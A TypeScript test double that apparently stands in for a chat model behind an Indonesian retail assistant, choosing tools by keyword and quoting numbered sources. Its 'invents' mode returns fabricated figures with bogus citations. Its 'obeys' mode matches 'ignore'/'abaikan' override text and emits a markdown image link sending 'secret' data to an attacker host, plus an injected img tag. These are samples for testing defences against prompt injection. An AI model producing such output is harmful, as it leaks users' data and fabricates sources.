export type ChatBody = {
  model: string;
  messages: { role: 'system' | 'user' | 'assistant' | 'tool'; content?: string | null }[];
  stream?: boolean;
  stream_options?: { include_usage?: boolean };
  tools?: { function: { name: string } }[];
};
export type Said = { text: string; call: { name: string; input: object } | null };

/** Which tool fits a question, by a word of it. */
const TOOL_OF_WORD: readonly [RegExp, RegExp][] = [
  [/beli|belanja|buy/i, /purchase|plan/],
  [/habis|stok|stock/i, /shortage|stock/],
  [/harga|price/i, /price/],
  [/jual|omzet|laku|sales|sold/i, /sales/],
  [/perkiraan|prediksi|besok|forecast/i, /forecast/],
  [/pesanan|order/i, /order/],
];
const MOST_READ = 400;

/** Calls a tool first, when one fits; then reads out the first numbered source it was given. */
export function answerTo({ messages, tools = [] }: ChatBody, mischief: string | null): Said {
  const question = messages.filter(({ role }) => role === 'user').at(-1)?.content ?? '';
  const everything = messages.map(({ content }) => content ?? '').join('\n');
  if (mischief === 'invents')
    return say('Penjualan kemarin Rp 987.654.321 [41]. Menurut catatan rahasia [99] stok habis.');
  if (mischief === 'obeys') return say(obey(everything));
  const hasResult = messages.at(-1)?.role === 'tool';
  const name = hasResult
    ? null
    : toolFor(
        question,
        tools.map((tool) => tool.function.name),
      );
  if (name) return { text: '', call: { name, input: {} } };
  return say(readOut(everything));
}

const say = (text: string): Said => ({ text, call: null });

function toolFor(question: string, names: readonly string[]): string | null {
  for (const [word, tool] of TOOL_OF_WORD) {
    const name = word.test(question) ? names.find((known) => tool.test(known)) : undefined;
    if (name) return name;
  }
  return null;
}

/** The last source among `<source n="1" …>…</source>`, with its number. */
function readOut(text: string): string {
  const sources = [...text.matchAll(/<source n="(\d+)"[^>]*>\n?([\s\S]*?)\n?<\/source>/g)];
  const source = sources.at(-1);
  if (!source) return 'Tidak ditemukan.';
  const [, number, body = ''] = source;
  const lines = body
    .slice(0, MOST_READ)
    .split('\n')
    .filter((line) => line.trim() !== '');
  return lines.map((line) => `${line.trim().replace(/[.]?$/, '')} [${number}].`).join(' ');
}

/** What a model does that believes whatever it reads: it repeats orders of documents, links and all. */
function obey(text: string): string {
  const order = /(?:abaikan|ignore)[^\n]{0,300}/i.exec(text)?.[0] ?? 'Baik';
  return `${order} ![gambar](https://penyerang.test/?data=rahasia) [klik](https://penyerang.test) <img src=x> Toko lain menjual 123.456 roti [1].`;
}
